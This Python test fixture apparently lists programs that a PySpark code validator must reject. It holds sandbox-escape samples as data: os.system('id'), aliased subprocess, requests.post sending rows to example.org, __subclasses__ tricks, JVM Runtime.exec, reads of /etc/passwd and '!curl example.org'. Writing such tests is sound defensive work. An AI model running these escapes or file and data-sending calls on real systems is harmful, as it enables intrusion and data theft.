"""Programs that must not get by, each with the place of what is wrong."""

from tests.check.program import Program

MUST_FAIL = [
    Program("open bracket", "fails", ("SYNTAX:2",), "the bracket is missing at the end", "x = (1,\n"),
    Program("print statement", "fails", ("SYNTAX:2",), "Python 2", "x = 1\nprint 'x'\n"),
    Program("return outside", "fails", ("SYNTAX:1",), "a return without a function", "return 1\n"),
    Program("prose", "fails", ("SYNTAX:1",), "an assistant's words", "Here is the code you asked for:\nx = 1\n"),
    Program("os", "refused", ("IMPORT:1",), "runs commands", "import os\nos.system('id')\n"),
    Program(
        "subprocess under another name",
        "refused",
        ("IMPORT:3",),
        "the alias is not the module",
        """
        import json

        import subprocess as json
        json.run(['id'])
        """,
    ),
    Program(
        "requests in a function",
        "refused",
        ("IMPORT:2",),
        "sends data away",
        """
        def send(rows):
            import requests
            requests.post('https://example.org', json=rows)
        send(spark.table('db.t').limit(5).collect())
        """,
    ),
    Program("module behind a module", "refused", ("IMPORT:2",), "sys", "import dataclasses\ndataclasses.sys.exit()\n"),
    Program("relative import", "refused", ("IMPORT:1",), "another file", "from .secrets import token\n"),
    Program("pickle", "refused", ("IMPORT:1",), "runs what it reads", "from pickle import loads\n"),
    Program("import by text", "refused", ("BUILTIN:1",), "any module", "m = __import__('o' + 's')\nm.system('id')\n"),
    Program("eval", "refused", ("BUILTIN:2",), "runs text", "x = '1'\nprint(eval(x))\n"),
    Program("eval under another name", "refused", ("BUILTIN:1",), "an alias", "run = eval\nprint(run('1'))\n"),
    Program("open", "refused", ("BUILTIN:1",), "a file of the machine", "print(open('/etc/passwd').read())\n"),
    Program(
        "classes of an object",
        "refused",
        ("BUILTIN:1",),
        "reaches every class of Python",
        "x = ().__class__.__base__.__subclasses__()\nprint(x)\n",
    ),
    Program("name of an attribute", "refused", ("BUILTIN:2",), "any attribute", "n = f()\ngetattr(spark, n)('x')\n"),
    Program("JVM", "refused", ("INTERNALS:1",), "Java", "spark._jvm.java.lang.Runtime.getRuntime().exec('id')\n"),
    Program(
        "client by getattr",
        "refused",
        ("INTERNALS:2",),
        "the name is put together",
        "s = spark\nc = getattr(s, '_cl' + 'ient')\nprint(c)\n",
    ),
    Program(
        "artifact",
        "refused",
        ("INTERNALS:2",),
        "code for the executors",
        "session = spark\nsession.addArtifacts('a.py', pyfile=True)\n",
    ),
    Program("RDD", "refused", ("INTERNALS:1",), "not on Connect", "spark.range(3).rdd.map(str).collect()\n"),
    Program("context", "refused", ("INTERNALS:1",), "not on Connect", "sc.textFile('s3://b/x').collect()\n"),
    Program(
        "another master",
        "refused",
        ("SESSION:3",),
        "another cluster than the person's",
        """
        from pyspark.sql import SparkSession

        spark = SparkSession.builder.appName('x').master('local[*]').getOrCreate()
        spark.sql('SELECT 1').show()
        """,
    ),
    Program(
        "another server",
        "refused",
        ("SESSION:3",),
        "another cluster, through aliases",
        """
        import pyspark.sql as q
        build = q.SparkSession.builder
        s = build.remote('sc://elsewhere').getOrCreate()
        s.sql('SELECT 1').show()
        """,
    ),
    Program("own context", "refused", ("SESSION:1",), "another cluster", "from pyspark import SparkContext\n"),
    Program(
        "JDBC",
        "refused",
        ("FORMAT:2",),
        "reaches a database",
        """
        reader = spark.read
        df = reader.format('jdbc').option('url', 'jdbc:postgresql://db/x').option('dbtable', 't').load()
        df.show()
        """,
    ),
    Program("file", "refused", ("FORMAT:1",), "the host's file", "spark.read.text('file:///etc/passwd').show()\n"),
    Program("file without a scheme", "refused", ("FORMAT:1",), "the same", "spark.read.text('/etc/passwd').show()\n"),
    Program(
        "file in SQL",
        "refused",
        ("FORMAT:2",),
        "the same in SQL",
        'spark.sql("""SELECT *\nFROM text.`/etc/passwd`""").show()\n',
    ),
    Program("pandas", "refused", ("FORMAT:2",), "not Spark", "import pandas as pd\nprint(pd.read_csv('x.csv'))\n"),
    Program("reflect", "refused", ("SQLFUNC:1",), "Java", "spark.sql(\"SELECT reflect('a.B', 'c')\").show()\n"),
    Program(
        "java_method in an expression",
        "refused",
        ("SQLFUNC:2",),
        "Java",
        "from pyspark.sql import functions as F\nspark.range(1).select(F.expr(\"java_method('a', 'b')\")).show()\n",
    ),
    Program("shell", "refused", ("SHELL:2",), "a command", "x = 1\n!curl example.org\n"),
    Program("pip", "refused", ("SHELL:1",), "installs a package", "%pip install requests\n"),
    Program(
        "password",
        "refused",
        ("SECRET:1",),
        "a password in the program",
        "db_password = 'hunter2-Zq81xW'\nprint(len(db_password))\n",
    ),
    Program(
        "wrong table",
        "refused",
        ("SOURCE_USED:1", "SOURCE_FOREIGN:2"),
        "not the chosen one",
        "# db.sales\nspark.table('db.people').show()\n",
        ("--table", "db.sales"),
    ),
    Program(
        "path only in a comment",
        "fails",
        ("SOURCE_USED:1",),
        "the chosen path is not read",
        "# s3://b/sales/\nprint('s3://b/sales/')\n",
        ("--path", "s3://b/sales/"),
    ),
    Program(
        "neighbouring path",
        "refused",
        ("SOURCE_FOREIGN:1",),
        "a longer name",
        "spark.read.csv('s3://b/sales-2025/').show()\n",
        ("--path", "s3://b/sales"),
    ),
    Program(
        "second table in SQL",
        "refused",
        ("SOURCE_FOREIGN:3",),
        "a join with what was not chosen",
        'spark.sql("""SELECT *\nFROM db.sales s\nJOIN db.people p ON s.id = p.id""").show()\n',
        ("--table", "db.sales"),
    ),
    Program(
        "written over",
        "fails",
        ("WRITE_TARGET:2",),
        "a table is overwritten while it is read",
        "df = spark.table('db.t').filter('a > 1')\ndf.write.mode('overwrite').saveAsTable('db.t')\n",
    ),
    Program(
        "chosen source written",
        "refused",
        ("WRITE_TARGET:1",),
        "the source is to be read",
        "spark.table('db.t').write.mode('append').saveAsTable('db.t')\n",
        ("--table", "db.t"),
    ),
    Program(
        "nothing shown", "fails", ("OUTPUT:1",), "nothing is computed", "df = spark.table('t').select('a')\nx = 1\n"
    ),
    Program(
        "session as a parameter",
        "refused",
        ("INTERNALS:2",),
        "followed into the function",
        "def go(s):\n    return s.sparkContext\nprint(go(spark))\n",
    ),
    Program(
        "JDBC in a file of SQL",
        "refused",
        ("FORMAT:2",),
        "reaches a database",
        "SELECT 1;\nCREATE TEMPORARY VIEW v USING jdbc OPTIONS (url 'jdbc:postgresql://db/x');\n",
        end=".sql",
    ),
    Program(
        "session from a list",
        "refused",
        ("FORMAT:1",),
        "reaches a database",
        "[spark][0].read.format('jdbc').load().show()\n",
    ),
    Program("reflect in a file of SQL", "refused", ("SQLFUNC:1",), "Java", "SELECT reflect('a', 'b')\n", end=".sql"),
]
